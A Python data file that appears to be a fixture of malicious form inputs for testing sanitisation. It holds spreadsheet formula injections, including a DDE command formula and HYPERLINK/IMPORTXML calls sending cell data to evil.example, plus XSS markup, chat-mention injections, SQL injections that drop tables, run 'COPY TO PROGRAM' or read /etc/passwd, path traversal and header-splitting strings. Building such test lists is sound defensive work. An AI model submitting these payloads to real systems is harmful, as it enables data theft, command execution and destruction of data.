"""What somebody may type into a form in order to be more than a value."""

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"),
    *('=HYPERLINK("http://evil.example?x="&A1,"open")', '=IMPORTXML("http://evil.example","//a")'),
    *('=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/x.png")', " =1+1"),
    *('=IMPORTRANGE("x","A1")', "=GOOGLEFINANCE(1)", "=WEBSERVICE(1)", "'=1+1", "==1", "=A1:B2"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "=\n1", "=1+1\x00", "\ufeff=1+1"),
    *("0123", "1e5", "1,5", "50%", "$5", "2026-01-02", "1/2", "12:30", "TRUE", "true", "#N/A"),
    *("+49 30 123456", "-", "=", "@", "1.0", "00", "1E-7", "١٢٣", "0x1F", "NULL", "''", '"x"'),
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "</p><h1>You have won</h1>",
    "&lt;b&gt;",
    "<!--",
    "]]><b>",
    "<b",
    'x" onmouseover="alert(1)',
    "<style>*{display:none}</style>",
    "{{ contact.email }} {% raw %} ${7*7} #{7*7}",
]
MENTIONS = [
    *("<!channel>", "<!here>", "<!everyone>", "<@U00000001>", "<#C00000000|general>"),
    *("<!subteam^S1>", "<!date^0^{date}|x>", "<http://evil.example|bank.example>"),
    *("<mailto:a@evil.example|bank>", "< !channel>", "<\u202e!channel>", "<!chan\x00nel>"),
    *("&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "<<!channel>>", "><!channel>", "|<!channel>"),
    *("@channel", "@here", "#general", "http://evil.example", "www.evil.example", "＜!channel＞"),
    *("x\u202e\u2066\u200fy", "{name}", "{{name}}", "{rows}", "```<!channel>```", "*b* _i_ ~s~"),
]
SQL = [
    *("' OR '1'='1", "'; DROP TABLE people; --", '"; DROP TABLE people; --', "' UNION SELECT 1--"),
    *("1; SELECT pg_sleep(99)", "') OR ('1'='1", "\\'; DROP TABLE people; --", "admin'--", "/**/"),
    *("%s", "%(name)s", "%%", ":name", ":1", "?", "$1", "{0}", "{name}", "`", "``", '"', '""', "'"),
    *("''", "\\", "\\\\", "$$; DROP TABLE people; $$", "$tag$x$tag$", "E'\\x27'", "U&'\\0027'"),
    *("x' AND 1=CAST((SELECT version()) AS int)--", "'||(SELECT 1)||'", "CHR(39)", "0x27", "#"),
    *("; ATTACH DATABASE 'x.db' AS x", "' || load_extension('x') || '", "COPY people TO 'x'"),
    *(
        "'; COPY people TO PROGRAM 'id'; --",
        "read_csv('/etc/passwd')",
        "ˈ OR 1=1",
        "＇; --",
        "\u02bc",
    ),
]
PATHS = [
    *("../../admin", "..", ".", "a/b", "/", "//evil.example/x", "\\..\\x", "%2e%2e", "%2F", "%00"),
    *("?x=1", "#x", "a?b#c", "a;b", "a=b&c=d", "@evil.example", ":80", "http://evil.example/"),
    *("a b", "a+b", "ä", "😀", "\u202e", "%", "%zz", "a\tb", "..;/", "....//", "\u2215", "．．"),
]
HEADERS = [
    *("a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\rX-Evil: 1", "\r\n\r\nGET / HTTP/1.1", "a\x00b"),
    *("a\x0bb", "a\x85b", "a\u2028X-Evil: 1", "a\u560d\u560aX-Evil: 1", "%0d%0aX-Evil: 1"),
]
